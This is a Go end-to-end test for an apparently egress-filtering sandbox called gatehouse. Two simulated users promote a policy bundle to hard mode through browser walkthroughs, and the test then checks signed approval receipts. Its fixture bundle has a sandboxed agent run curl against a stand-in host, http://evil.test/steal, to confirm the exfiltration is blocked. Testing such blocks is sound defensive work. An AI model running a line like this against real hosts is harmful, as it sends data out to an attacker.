package main

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/oauth2-proxy/mockoidc"

	"gatehouse/internal/journal"
	"gatehouse/internal/notary"
	"gatehouse/internal/outside"
	"gatehouse/receipts"
)

// journeyBundle asks for one host that it may not reach and should, and for one
// that nobody should reach.
const journeyBundle = `apiVersion: gatehouse/v1
kind: Bundle
name: %[1]s
mode: shadow
accepts: outsider
match: [{source: github, endpoint: main, kinds: [workflow_run.completed], where: {conclusion: failure, run_attempt: "%[2]d"}}]
session:
  agent: {command: {argv: [/bin/sh, -c, "curl -s http://listed.test/v1/a http://wanted.test/pkg/left-pad http://evil.test/steal; echo done > /gatehouse/out/result.md"]}}
  task: "go"
egress: [{host: listed.test, schemes: [http], ports: [80]}]
`

// TestJourney is the way from would-blocks to hard mode, by two people in real
// browsers: by mouse, by keyboard alone, and without JavaScript.
func TestJourney(t *testing.T) {
	if testing.Short() {
		t.Skip("short: a browser and a node")
	}
	modules, err := filepath.Abs("../../.tools/e2e")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(modules, "installed")); err != nil {
		t.Skip("NOT TESTED: run scripts/browser, or make test-ui")
	}
	world, err := outside.New()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(world.Close)
	site := func(host, addr string, h http.Handler) *outside.Site {
		s, err := world.HTTP(host, netip.MustParseAddr(addr), h)
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	hello := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "hello") })
	site("listed.test", "93.184.216.34", hello)
	wanted, evil := site("wanted.test", "93.184.216.35", hello), site("evil.test", "93.184.216.36", hello)

	// The identity provider is a site of that world. Its own listener is not used:
	// it names itself by the address it is given.
	idp, err := mockoidc.Run()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = idp.Shutdown() })
	site("idp.test", "93.184.216.37", idp.Server.Handler)
	idp.Server.Addr = "idp.test"
	idpAt := world.Upstreams()["93.184.216.37:80"]

	t.Setenv("GATEHOUSE_TEST_IDP", idp.ClientSecret)
	ways := []string{"mouse", "keyboard", "nojs"}
	var bundles []string
	for i, way := range ways {
		bundles = append(bundles, fmt.Sprintf(journeyBundle, "by-"+way, i+1))
	}
	n := newLiveNode(t, worldConfig(world)+fmt.Sprintf("oidc: {issuer: %q, client_id: %q, secret: \"${env:GATEHOUSE_TEST_IDP}\", scopes: [groups], roles: {eng: [reviewer, approver], sec: [approver]}}\n", idp.Issuer(), idp.ClientID), bundles...)
	n.args = []string{"--dev"}
	n.start()

	// Two independent events for each bundle.
	run := 0
	fail := func(way int) string {
		run++
		p := workflowRun(run, "failure")
		p.body = bytes.Replace(p.body, []byte(`"run_attempt":1`), fmt.Appendf(nil, `"run_attempt":%d`, way+1), 1)
		id := n.deliver(p)[0]
		n.settled(id)
		return id
	}
	logins := tempDir(t)
	walk := func(way, stage string) {
		t.Helper()
		ctx, cancel := context.WithTimeout(t.Context(), 2*patience)
		defer cancel()
		cmd := exec.CommandContext(ctx, "node", "../../ui/e2e/journey.mjs", way, stage, "by-"+way)
		cmd.Env = append(os.Environ(), "E2E_MODULES="+modules, "NODE=http://"+n.operator, "IDP="+idpAt, "LOGINS="+logins)
		if out, err := cmd.CombinedOutput(); err != nil || !bytes.HasSuffix(out, []byte("ok\n")) {
			t.Fatalf("%s, %s: %v\n%s", way, stage, err, out)
		}
	}
	for i, way := range ways {
		t.Run(way, func(t *testing.T) {
			fail(i)
			fail(i)
			for _, who := range []string{"ann", "bob"} {
				groups := map[string][]string{"ann": {"eng"}, "bob": {"sec"}}[who]
				idp.QueueUser(&mockoidc.MockUser{Subject: who, Email: who + "@example.com", EmailVerified: true, Groups: groups})
			}
			walk(way, "promote")

			// The same attempt in a new session: the package comes, the thief does not.
			came, stolen := wanted.Accepts(), evil.Accepts()
			fail(i)
			if wanted.Accepts() != came+1 || evil.Accepts() != stolen {
				t.Errorf("in hard mode: %d connections to wanted.test, %d to evil.test", wanted.Accepts()-came, evil.Accepts()-stolen)
			}
			walk(way, "narrow")
			came = wanted.Accepts()
			fail(i)
			if wanted.Accepts() != came {
				t.Error("a paused bundle started a session")
			}
		})
	}
	n.stop()

	// Each step is a receipt that names its person, and the log verifies.
	keys, err := notary.LoadKeys(n.path("state", "keys"))
	if err != nil {
		t.Fatal(err)
	}
	log := notary.New(notary.Options{Node: "node-1", Keys: keys})
	j, err := journal.Open(n.path("state", "journal"), journal.Options{Seal: log.Seal, PrivateKey: keys.NodeKey().Reveal()})
	if err != nil {
		t.Fatal(err)
	}
	defer j.Close()
	if err := log.Start(t.Context(), j); err != nil {
		t.Fatal(err)
	}
	var file bytes.Buffer
	if err := log.Export(t.Context(), &file, notary.Filter{}); err != nil {
		t.Fatal(err)
	}
	for _, who := range []string{"ann@example.com", "bob@example.com"} {
		if n := bytes.Count(file.Bytes(), []byte(who)); n < 2*len(ways) {
			t.Errorf("%d receipts name %s", n, who)
		}
	}
	if res := receipts.Verify(&file, receipts.Options{Root: keys.RootFingerprint(), Checkpoint: log.Head()}); res.Exit != receipts.ExitComplete {
		t.Errorf("verify: exit %d %s: %+v", res.Exit, res.Class, res.FirstBad)
	}
}
